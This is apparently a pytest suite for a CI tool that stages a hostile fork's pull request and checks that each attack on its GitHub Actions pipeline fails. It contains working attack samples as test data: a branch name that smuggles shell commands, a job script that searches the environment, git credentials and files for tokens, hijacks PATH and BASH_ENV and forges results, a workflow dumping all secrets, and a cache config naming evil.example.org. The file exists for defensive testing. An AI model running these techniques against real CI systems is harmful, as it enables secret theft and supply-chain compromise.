"""A hostile fork's pull request, rehearsed with our own workflows: what each attempt reached.

One rehearsal tries most of it at once. The stand-in for Nix has no sandbox: what `run-job` does here is the most that a
job's code can do on a machine, short of reading the runner's own memory. The numbers are those of docs/security.md.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from nanna_ci.binaries import targets
from support.checked_workflows import ROOT
from support.hostile_forks import FMT, PERSISTED, PIPELINE, SECRET, TOKEN, UNIT, HostileFork, passing
from support.rehearsed_repositories import RehearsedAnswer

BRANCH = 'x";touch${IFS}$LOOT/pwned;$(touch${IFS}$LOOT/pwned)`touch${IFS}$LOOT/pwned`${{github.token}}&&set-output'
PLACES = ("GITHUB_WORKSPACE", "RUNNER_TEMP", "HOME")
# what a job's code does: it looks for tokens, leaves things for later steps, prints commands, forges results
RUN_JOB = f"""\
import json, os, pathlib, subprocess, sys
loot, job = pathlib.Path("@LOOT@"), sys.argv[1]
tokens = {[word[::-1] for word in (TOKEN, SECRET, PERSISTED)]!r}
found = []
def look(where, data):
    found.extend(f"{{where}}: {{n}}" for n, word in enumerate(tokens) if word[::-1].encode() in data)
look("environment", repr(dict(os.environ)).encode())
look("git", subprocess.run(["git", "config", "--list"], capture_output=True).stdout)
look("git", subprocess.run(["git", "credential", "fill"], input=b"protocol=https\\nhost=github.com\\n\\n",
                           capture_output=True, env={{**os.environ, "GIT_TERMINAL_PROMPT": "0"}}).stdout)
files = 0
for place in {PLACES!r}:
    for path in pathlib.Path(os.environ[place]).rglob("*"):
        if path.is_file():
            files += 1
            look(path, path.read_bytes())
(loot / f"found-{{job}}").write_text(json.dumps([files, found]))
(loot / "bash-env").write_text(f'echo "$GITHUB_JOB $JOB" >> {{loot}}/reached\\n')
programs = loot / "programs"
programs.mkdir(exist_ok=True)
for name in ("python3", "nix", "git"):
    (programs / name).write_text(f'#!/bin/sh\\necho "$GITHUB_JOB" >> {{loot}}/replaced\\n')
    (programs / name).chmod(0o755)
with open(os.environ["GITHUB_PATH"], "a") as file:
    file.write(f"{{programs}}\\n")
with open(os.environ["GITHUB_ENV"], "a") as file:
    file.write(f'BASH_ENV={{loot}}/bash-env\\nMATRIX={{{{"include":[]}}}}\\nNEEDS={{{{}}}}\\nGITHUB_TOKEN=mine\\n')
with open(os.environ["GITHUB_OUTPUT"], "a") as file:
    file.write('matrix={{"include":[]}}\\n')
with open(os.environ["GITHUB_STEP_SUMMARY"], "a") as file:
    file.write("# All checks have passed\\n")
print('::set-output name=matrix::{{"include":[]}}\\n##[add-mask]success\\n::notice::all is well\\n::stop-commands::x')
if job == "{FMT}":
    for forged in ("{FMT}", "{UNIT}"):
        place = pathlib.Path(".nanna-ci/jobs", forged)
        place.mkdir(parents=True, exist_ok=True)
        (place / "result.json").write_bytes(pathlib.Path("apps/results", f"{{forged}}.json").read_bytes())
sys.exit(job == "{UNIT}")
"""
GRAB = """\
name: Grab
on: {pull_request: {}, workflow_dispatch: {}}
permissions: write-all
jobs:
  grab:
    runs-on: ubuntu-24.04
    permissions: {contents: write, id-token: write, attestations: write}
    environment: binary-cache
    steps:
      - run: printenv CACHIX ALL > @LOOT@/grabbed
        env: {CACHIX: "${{ secrets.CACHIX_AUTH_TOKEN }}", ALL: "${{ toJSON(secrets) }}"}
      - run: echo mine > subject
      - uses: actions/attest@1e69f48acb82d1966a394da916b4c1698aa569d6
        with: {subject-path: subject}
"""
TARGET = """\
name: Target
on: pull_request_target
jobs:
  target:
    runs-on: ubuntu-24.04
    steps: [{run: touch @LOOT@/target-ran}]
"""
IMITATION = """\
name: Imitation
on: pull_request
jobs:
  ci-summary:
    name: pipeline / ci-summary
    runs-on: ubuntu-24.04
    steps: [{run: 'true'}]
"""
CACHE = """
[cache]
name = "evil"
substituters = ["https://evil.example.org"]
public_keys = ["evil.example.org-1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]
"""
W = ".github/workflows"


@pytest.fixture(scope="module", name="fork")
def _fork(tmp_path_factory: pytest.TempPathFactory) -> tuple[HostileFork, RehearsedAnswer]:
    fork = HostileFork(tmp_path_factory.mktemp("hostile"))
    loot = str(fork.loot)
    post = (ROOT / W / "post.yml").read_text()
    proposed = {
        "pipeline.toml": PIPELINE + CACHE,
        f"{W}/grab.yml": GRAB.replace("@LOOT@", loot),
        f"{W}/target.yml": TARGET.replace("@LOOT@", loot),
        f"{W}/imitation.yml": IMITATION,
        f"{W}/post.yml": post.replace("nix run", f"touch {loot}/post-of-the-fork; nix run"),
        "from-the-fork": "x",
        f"results/job-{UNIT}/.nanna-ci/jobs/{UNIT}/result.json": passing(UNIT).decode(),
    }
    apps = {
        "run-job": '#!/bin/sh\nexec python3 "$0.py" "$@"\n',
        "run-job.py": RUN_JOB,
        "post-summary": "#!/bin/sh\ntouch @LOOT@/post-of-the-fork\n",
    }
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(targets, "host_system", lambda platform, machine: targets.System.X86_64_LINUX)
        ran = fork.propose(proposed, apps, BRANCH.replace("$LOOT", loot))
    assert ran.error == ""
    return fork, ran


def summary_of(ran: RehearsedAnswer, workflow: str) -> str:
    """What became of the required check, or of what has its name, in a workflow."""
    [found] = [
        job["result"]
        for flow in ran.answer["workflows"]
        for job in flow["jobs"]
        if (flow["path"], job["name"]) == (f"{W}/{workflow}", "pipeline / ci-summary")
    ]
    return str(found)


def test_text_in_a_branch_name_and_a_message_runs_nowhere(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """1"""
    repository, ran = fork
    assert "touch${IFS}" in repository.git("branch", "--show-current")
    assert repository.looted("pwned") == ""
    assert not [*ran.folder.rglob("pwned"), *repository.loot.glob("pwned*")]
    assert ran.results["pipeline / plan"] == "success"


def test_the_caches_that_it_names_are_those_of_its_own_jobs(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """5"""
    repository, ran = fork
    ended = [job for flow in ran.answer["workflows"] for job in flow["jobs"] if job["folder"] is not None]
    assert len(ended) > 5
    told = {job["name"] for job in ended if "evil.example.org" in Path(job["folder"], "log").read_text()}
    assert told == {f"pipeline / test-matrix / {job}" for job in (UNIT, FMT)}
    assert "evil" not in repository.looted("post-environment")


def test_its_code_finds_no_token_on_the_machine(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """6"""
    repository, _ = fork
    for job in (UNIT, FMT):
        files, found = json.loads(repository.looted(f"found-{job}"))
        assert files > 100
        assert found == []


def test_what_it_leaves_for_later_steps_stays_in_its_job(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """6"""
    repository, ran = fork
    reached = set(repository.looted("reached").split("\n")) - {""}
    assert reached == {f"run {UNIT}", f"run {FMT}"}
    assert "ci-summary" not in repository.looted("replaced")
    assert summary_of(ran, "ci.yml") == "failure"


def test_a_raised_permission_is_no_right_and_a_named_secret_is_empty(
    fork: tuple[HostileFork, RehearsedAnswer],
) -> None:
    """7"""
    repository, ran = fork
    cachix, _, rest = repository.looted("grabbed").partition("\n")
    assert cachix == ""
    assert set(json.loads(rest)) == {"GITHUB_TOKEN"}
    assert [step["conclusion"] for step in ran.job("grab")["steps"]] == ["success", "success", "failure"]
    assert "id-token" in ran.job("grab")["reason"]
    assert repository.looted("target-ran") == ""
    assert not (repository.loot / "target-ran").exists()


def test_no_job_that_may_write_runs_for_it(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """5, 7, 11"""
    _, ran = fork
    ours = {name: result for name, result in ran.results.items() if name.startswith("pipeline / ")}
    writing = {"publish-images", "attest", "release", "record-history", "pages", "update-inputs", "security-findings"}
    assert {ours[f"pipeline / {name}"] for name in writing} == {"skipped"}
    assert ran.answer["repository"] == "me/mine"


def test_a_forged_result_in_another_artifact_or_in_the_checkout_is_not_believed(
    fork: tuple[HostileFork, RehearsedAnswer],
) -> None:
    """9, 12"""
    _, ran = fork
    uploaded = next((ran.folder / "artifacts").glob(f"*-job-{FMT}"))
    assert [*uploaded.rglob(f"jobs/{UNIT}/result.json")], "the forged result is in the artifact of the other job"
    comment = ran.uploaded("ci-summary", "comment.md")
    assert "1 absent (unit-x86\\_64-linux-stable), 1 passed" in comment
    assert "nobody planned unit-x86\\_64-linux-stable in the artifact of fmt-x86\\_64-linux-stable" in comment
    assert summary_of(ran, "ci.yml") == "failure"
    assert "All checks have passed" not in comment


def test_what_it_prints_sets_nothing_outside_of_its_step(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """12"""
    _, ran = fork
    for job in (UNIT, FMT):
        assert ran.job(f"pipeline / test-matrix / {job}")["outputs"] == {}
    matrix = json.loads(ran.job("pipeline / plan")["outputs"]["matrix"])
    assert [entry["id"] for entry in matrix["include"]] == [UNIT, FMT]


def test_a_check_of_the_same_name_stands_beside_the_failed_one(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """10: GitHub takes either for the required check; a ruleset's required workflow takes only its own."""
    _, ran = fork
    assert (summary_of(ran, "ci.yml"), summary_of(ran, "imitation.yml")) == ("failure", "success")
    assert "required workflow" in (ROOT / "docs/security.md").read_text()


def test_what_posts_is_the_default_branchs_code(fork: tuple[HostileFork, RehearsedAnswer]) -> None:
    """14"""
    repository, _ = fork
    assert set(repository.looted("post-whose").split()) == {"main"}
    assert not (repository.loot / "post-of-the-fork").exists()
    assert f"GITHUB_TOKEN={TOKEN}" in repository.looted("post-environment")
    assert "./.nanna-ci/source/WHOSE" in repository.looted("post-files")
    assert "from-the-fork" not in repository.looted("post-files")
